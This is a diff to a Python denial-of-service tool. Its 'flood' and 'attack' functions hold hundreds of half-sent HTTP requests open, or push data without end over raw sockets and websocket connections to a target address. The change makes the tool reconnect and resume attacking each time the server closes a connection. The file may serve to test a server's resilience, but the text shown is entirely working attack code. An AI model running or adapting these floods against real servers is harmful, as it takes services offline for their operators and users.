@@ -52,6 +52,7 @@ def read_away(opened: socket.socket) -> None:
 
 
 def flood(address: str, kind: str, seconds: float) -> None:
+    """Attack for the whole time: a server that has had enough and closes is attacked anew."""
     end = time.monotonic() + seconds
     if kind == "half":
         halves = [connect(address) for _ in range(300)]
@@ -59,17 +60,25 @@ def flood(address: str, kind: str, seconds: float) -> None:
             half.sendall(b"GET /ws HTTP/1.1\r\nHost: ")
         time.sleep(seconds)
         return
-    if kind in ENDLESS:
-        head, piece = ENDLESS[kind]
-        opened = connect(address)
-        opened.sendall(head.format(address).encode())
-    else:
-        opened, piece = websocket(address), FLOODS[kind]
-    threading.Thread(target=read_away, args=(opened,), daemon=True).start()
-    opened.settimeout(seconds)
+    while time.monotonic() < end:
+        attack(address, kind, end)
+
+
+def attack(address: str, kind: str, end: float) -> None:
+    """Send without end on one connection, until the server closes it or the time is over."""
     try:
-        while time.monotonic() < end:
-            opened.sendall(piece)
+        if kind in ENDLESS:
+            head, piece = ENDLESS[kind]
+            opened = connect(address)
+            opened.sendall(head.format(address).encode())
+        else:
+            opened, piece = websocket(address), FLOODS[kind]
+        with opened:
+            reader = threading.Thread(target=read_away, args=(opened,), daemon=True)
+            reader.start()
+            opened.settimeout(max(0.1, end - time.monotonic()))
+            while time.monotonic() < end:
+                opened.sendall(piece)
     except OSError:
         return  # the server has had enough
 
